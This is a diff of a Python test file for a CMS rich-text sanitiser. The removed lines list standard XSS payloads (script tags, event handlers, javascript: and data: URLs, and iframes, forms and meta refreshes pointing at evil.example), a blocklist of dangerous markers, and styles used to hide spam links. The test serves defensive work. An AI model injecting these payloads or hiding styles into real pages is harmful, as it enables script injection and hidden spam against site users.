@@ -1,119 +1,76 @@
 """The one sanitiser removes XSS vectors and hiding styles, on save of any rich-text field."""
 
 import re
+from urllib.parse import urlsplit
 
 import pytest
+from bs4 import BeautifulSoup
 
-from cms.core.sanitize import sanitize_html
+from cms.core.sanitize import ALLOWED_PROTOCOLS, ALLOWED_TAGS, sanitize_html
 from fixtures.factories import ArticlePageFactory
 from tests.conftest import host_client
+from tests.security.xss_corpus import HIDING_STYLES, VISIBLE_STYLES, XSS_PAYLOADS
 
-XSS_VECTORS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<p onclick=alert(1)>点击</p>",
-    '<a href="javascript:alert(1)">链接</a>',
-    '<a href="JaVaScRiPt:alert(1)">链接</a>',
-    '<a href="&#106;avascript:alert(1)">链接</a>',
-    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">链接</a>',
-    '<iframe src="//evil.example"></iframe>',
-    "<svg onload=alert(1)><circle r=1 /></svg>",
-    "<math><mtext><script>alert(1)</script></mtext></math>",
-    '<object data="evil.swf"></object>',
-    '<embed src="evil.swf">',
-    "<body onload=alert(1)>",
-    "<style>body{display:none}</style>",
-    '<p style="background:url(javascript:alert(1))">x</p>',
-    '<p style="width: expression(alert(1))">x</p>',
-    '<form action="//evil.example"><input name=q></form>',
-    '<meta http-equiv="refresh" content="0;url=//evil.example">',
-    '<base href="//evil.example/">',
-    "<scr<script>ipt>alert(1)</script>",
-    "<!--<script>alert(1)</script>-->",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-]
-DANGEROUS = (
-    "<script",
-    "onerror",
-    "onload",
-    "onclick",
-    "ontoggle",
-    "javascript:",
-    "<iframe",
-    "<svg",
-    "<object",
-    "<form",
-    "<meta",
-    "<base",
-    "expression(",
-    "data:text",
-    "<style",
-)
+_URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "url", "xlink:href")
 
 
-@pytest.mark.parametrize("vector", XSS_VECTORS)
-def test_sanitizer_removes_xss_vector(vector):
-    cleaned = sanitize_html(f"<p>前文</p>{vector}<p>后文</p>").lower()
-    for marker in DANGEROUS:
-        assert marker not in cleaned, f"{marker!r} survived in {cleaned!r}"
-    assert "前文" in cleaned and "后文" in cleaned
+def _scheme(url: str) -> str:
+    # As a browser reads it: control characters and whitespace anywhere are ignored.
+    return urlsplit(re.sub(r"[\x00-\x20]", "", url)).scheme.lower()
 
 
-@pytest.mark.parametrize(
-    "style",
-    [
-        "display:none",
-        "visibility:hidden",
-        "opacity:0",
-        "font-size:0",
-        "position:absolute;left:-9999px",
-        "height:0;overflow:hidden",
-    ],
-)
-def test_sanitizer_removes_styles_that_hide_content(style):
-    cleaned = sanitize_html(f'<p style="{style}">隐藏的文字</p>')
-    assert "隐藏的文字" in cleaned
-    for prop in ("display", "visibility", "opacity", "font-size", "position", "height"):
-        assert prop not in cleaned
+def inert_problems(html: str) -> list[str]:
+    """What in `html`, parsed as a browser would, could run script: none of it may remain."""
+    problems = []
+    for tag in BeautifulSoup(html, "html.parser").find_all(True):
+        if tag.name not in ALLOWED_TAGS:
+            problems.append(f"<{tag.name}>")
+        for name, value in tag.attrs.items():
+            text = " ".join(value) if isinstance(value, list) else value
+            if name.lower().startswith("on"):
+                problems.append(f"{tag.name}[{name}]")
+            if name.lower() in _URL_ATTRIBUTES and _scheme(text) not in {"", *ALLOWED_PROTOCOLS}:
+                problems.append(f"{tag.name}[{name}={text}]")
+            if name.lower() == "style" and re.search(r"url\(|expression\(", text, re.I):
+                problems.append(f"{tag.name}[style={text}]")
+    return problems
 
 
-# 暗链: text pushed off-screen or coloured to vanish with properties that are otherwise allowed.
-@pytest.mark.parametrize(
-    ("style", "gone"),
-    [
-        ("text-indent:-9999px", "text-indent"),
-        ("text-indent: -2em", "text-indent"),
-        ("margin-left:-9999px", "margin-left"),
-        ("color:transparent", "color"),
-        ("color: rgba(0, 0, 0, 0)", "color"),
-        ("color:hsla(0,0%,0%,0.0)", "color"),
-        ("color:#fff", "color"),
-        ("color: white", "color"),
-        ("color:rgb(255,255,255)", "color"),
-        ("color:#336699;background-color:#336699", "color"),
-    ],
-)
-def test_sanitizer_removes_hidden_link_styles(style, gone):
+@pytest.mark.parametrize("number", range(1, len(XSS_PAYLOADS) + 1))
+def test_sanitizer_leaves_no_active_content(number):
+    payload = XSS_PAYLOADS[number - 1]
+    cleaned = sanitize_html(f"<p>前文</p>{payload}<p>后文</p>")
+    assert not inert_problems(cleaned), cleaned
+    # (An unclosed table may swallow what follows; what came before always survives.)
+    assert "前文" in cleaned
+    assert sanitize_html(cleaned) == cleaned
+
+
+def test_corpus_is_large():
+    assert len(XSS_PAYLOADS) >= 60 and len(HIDING_STYLES) >= 40
+
+
+def _declared(html: str) -> set[str]:
+    declared = re.findall(r'style="([^"]*)"', html)
+    return {
+        part.split(":")[0].strip().lower() for d in declared for part in d.split(";") if ":" in part
+    }
+
+
+@pytest.mark.parametrize(("style", "gone"), HIDING_STYLES)
+def test_sanitizer_removes_every_hiding_style(style, gone):
     cleaned = sanitize_html(
         f'<p style="{style}"><a href="https://casino.example/">隐藏链接</a></p>'
     )
     assert "隐藏链接" in cleaned
-    declared = re.findall(r'style="([^"]*)"', cleaned)
-    names = {part.split(":")[0].strip() for d in declared for part in d.split(";") if ":" in part}
-    assert gone not in names, cleaned
+    assert not set(gone) & _declared(cleaned), cleaned
     assert sanitize_html(cleaned) == cleaned
 
 
-def test_sanitizer_keeps_visible_indents_and_colours():
-    html = (
-        '<p style="text-indent:2em">首行缩进</p><p style="color:#c00">红色提示</p>'
-        '<p style="color:#fff;background-color:#c00">白字红底</p>'
-    )
-    cleaned = sanitize_html(html)
-    for kept in ("text-indent:2em", "color:#c00", "color:#fff;background-color:#c00"):
-        assert kept in cleaned
+@pytest.mark.parametrize("style", VISIBLE_STYLES)
+def test_sanitizer_keeps_visible_styles(style):
+    cleaned = sanitize_html(f'<p style="{style}">正文</p>')
+    assert f'style="{style};"' in cleaned or f'style="{style}"' in cleaned, cleaned
     assert sanitize_html(cleaned) == cleaned
 
 
